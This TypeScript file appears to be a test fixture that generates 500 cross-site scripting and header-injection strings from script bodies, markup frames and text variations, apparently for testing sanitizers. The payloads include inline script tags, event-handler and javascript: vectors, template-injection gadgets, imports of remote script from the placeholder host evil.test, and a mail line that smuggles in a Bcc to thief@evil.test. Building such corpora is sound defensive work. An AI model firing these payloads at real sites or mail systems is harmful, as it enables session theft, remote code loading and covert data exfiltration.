/** What would run if a page or a mail treated text as markup, an address as script, or a line as a header. */
const bodies = [
  'alert(1)',
  'fetch(`//evil.test`)',
  'top.location=`//evil.test`',
  'import(`//evil.test/x.js`)',
];
const frames: ((script: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  (script) => `"><script>${script}</script>`,
  (script) => `</title></style></textarea><script>${script}</script>`,
  (script) => `<img src=x onerror=${script}>`,
  (script) => `'"><img/src/onerror=${script}//`,
  (script) => `<svg/onload=${script}>`,
  (script) => `<svg><animate onbegin=${script} attributeName=x>`,
  (script) => `<a href="javascript:${script}">x</a>`,
  (script) => `javascript:${script}`,
  (script) => `" onfocus="${script}" autofocus="`,
  (script) => `' onmouseover='${script}`,
  (script) => `<iframe srcdoc="<script>${script}</script>">`,
  (script) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${script}>`,
  (script) => `<!--><script>${script}</script>-->`,
  (script) => `]]><script>${script}</script>`,
  (script) => `{{constructor.constructor('${script}')()}}`,
  (script) => `\${${script}}`,
  (script) => `\\u003cscript\\u003e${script}`,
  (script) => `&lt;script&gt;${script}&lt;/script&gt;`,
  (script) => `%3Cscript%3E${script}%3C/script%3E`,
  (script) => `<base href="//evil.test/"><link rel=stylesheet href=x>${script}`,
  (script) => `<meta http-equiv=refresh content="0;url=data:text/html,${script}">`,
  (script) => `x\r\nBcc: thief@evil.test\r\n\r\n<b>${script}`,
  (script) => `<b>${script}</b>`,
  (script) => `<details open ontoggle=${script}>`,
];
const changes: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase(),
  (text) => text.replace(/</g, '<\t').replace(/=/g, ' = '),
  (text) => `Ada ${text}`,
  (text) => `${text}${text}`,
];

/** 500 of them. */
export const injections: string[] = changes.flatMap((change) =>
  frames.flatMap((frame) => bodies.map((script) => change(frame(script)))),
);
